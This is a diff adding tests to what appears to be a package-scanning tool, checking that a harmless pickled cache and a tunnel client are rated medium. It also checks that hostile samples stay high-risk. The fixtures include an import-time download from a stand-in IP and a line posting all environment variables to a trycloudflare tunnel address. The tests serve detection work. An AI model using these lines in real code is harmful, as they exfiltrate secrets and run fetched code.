@@ -259,3 +259,77 @@ def test_pip_pulling_from_elsewhere_or_an_unknown_name_stays_high(tmp_path):
     ):
         result = _setup(tmp_path, f"other{n}", PIP_SETUP.format(command=command))
         assert_high_with(command, result, {"place.dependency_pull", "place.install_time"})
+
+
+# ---------------------------------------------------------------- a pickled cache at import
+# python-escpos pickles its printer database at import to
+# ``mkdtemp()/f"{platform.python_version()}.capabilities.pickle"``: its own cache, named by an
+# f-string that ends in written text. A runnable name written there, or a download saved
+# under a cache's name, stay import-time acts.
+CACHE = (
+    "import pickle, platform\nfrom os import environ, path\nfrom tempfile import mkdtemp\n\n"
+    'cache_dir = environ.get("PKG_CACHE_DIR", mkdtemp())\n'
+    'cache_path = path.join(cache_dir, f"{platform.python_version()}.capabilities.pickle")\n'
+    "DATA = {'profiles': {}}\n"
+    'with open(cache_path, "wb") as fh:\n'
+    "    pickle.dump(DATA, fh, protocol=2)\n"
+)
+
+
+def _imported(tmp_path, name: str, text: str):
+    files = {"pkg/__init__.py": "from pkg import caps\n", "pkg/caps.py": text}
+    return scan(files, subfolder(tmp_path, name))
+
+
+def test_a_pickled_cache_written_at_import_is_medium(tmp_path):
+    result = _imported(tmp_path, "cache", CACHE)
+    writes = [h for h in result.findings if h.rule == "py.write_outside"]
+    assert writes and "its own cache or data file" in writes[0].explanation
+    assert result.risk.level not in HIGH
+
+
+def test_a_script_or_a_download_written_at_import_stays_high(tmp_path):
+    script = CACHE.replace(".capabilities.pickle", ".startup.py")
+    assert_high_with("script", _imported(tmp_path, "script", script), {"place.import_time"})
+    fetched = CACHE.replace(
+        "    pickle.dump(DATA, fh, protocol=2)\n",
+        "    import urllib.request\n"
+        "    fh.write(urllib.request.urlopen('http://192.0.2.9/p').read())\n",
+    )
+    assert_high_with("download", _imported(tmp_path, "fetched", fetched), {"place.import_time"})
+
+
+# ---------------------------------------------------------------- a tunnel service named, no tunnel
+# reward-kit starts ``ssh -R 80:localhost:{port} serveo.net`` for a developer's server, and
+# keepercommander builds ``f"https://{subdomain}.ngrok.io"`` for its user's tunnel and knows
+# ``.ngrok-free.app`` as a suffix: the service's name, never a tunnel of their own. A hard-coded
+# tunnel address (a label before the service's name) is where a thief posts: high alone.
+TUNNEL_CLIENT = (
+    "import os, subprocess\n\n\n"
+    "def expose(port, subdomain):\n"
+    "    env = os.environ.copy()\n"
+    "    cmd = ['ssh', '-R', f'80:localhost:{port}', 'serveo.net']\n"
+    "    subprocess.Popen(cmd, env=env)\n"
+    "    suffixes = ['.ngrok.io', '.ngrok-free.app']\n"
+    "    return f'https://{subdomain}.ngrok.io', suffixes\n"
+)
+
+
+def test_a_tunnel_client_naming_the_service_is_medium(tmp_path):
+    result = _module(tmp_path, "client", TUNNEL_CLIENT)
+    ends = [h for h in result.findings if h.capability == "net.exfil_endpoint"]
+    assert ends and all(h.severity == "medium" for h in ends)
+    assert result.risk.level not in HIGH, [(t.id, t.severity) for t in result.threats]
+
+
+def test_a_tunnel_address_of_its_own_stays_high(tmp_path):
+    alone = "URL = 'https://a1b2-203-0-113-7.ngrok-free.app/u'\n"
+    assert_high_with("tunnel address", _module(tmp_path, "alone", alone), {"chain.exfil_endpoint"})
+    posted = (
+        "import os, json, urllib.request\n\n"
+        "urllib.request.urlopen('https://x7k2.trycloudflare.com/c', "
+        "data=json.dumps(dict(os.environ)).encode())\n"
+    )
+    assert_high_with(
+        "environment posted", _module(tmp_path, "posted", posted), {"chain.exfiltration"}
+    )
